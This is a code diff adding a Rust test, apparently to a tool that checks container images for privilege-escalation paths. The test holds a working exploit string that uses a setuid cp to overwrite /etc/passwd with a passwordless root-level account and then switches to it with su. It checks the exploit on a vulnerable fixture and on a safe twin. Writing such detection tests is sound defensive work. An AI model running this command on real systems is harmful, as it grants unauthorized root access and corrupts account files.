@@ -226,6 +226,18 @@ fn setuid_find_is_root_and_its_twin_is_not() {
 }
 
 #[test]
+fn setuid_cp_writes_passwd_then_su_and_its_twin_is_not() {
+    // The new passwd is written by the user, then copied over /etc/passwd
+    // by the setuid cp (a file cp creates would be root's).
+    let exploit = "{ cat /etc/passwd; echo 'x::0:0::/:/bin/sh'; } > /tmp/p && \
+                   cp /tmp/p /etc/passwd 2>/dev/null; su -c 'id -u' x 2>/dev/null";
+    let f = Fixture::new("app", "chmod 4755 \"$R/usr/bin/cp\"", &["usr/bin/cp"]);
+    check(&f, "10001:10001", "setuid-root-shell", true, exploit);
+    let twin = Fixture::new("app", "chmod 0755 \"$R/usr/bin/cp\"", &["usr/bin/cp"]);
+    check(&twin, "10001:10001", "setuid-root-shell", false, exploit);
+}
+
+#[test]
 fn empty_root_password_and_su_is_root_and_a_locked_root_is_not() {
     let exploit = "su -c 'id -u' root 2>/dev/null";
     let f = Fixture::new(
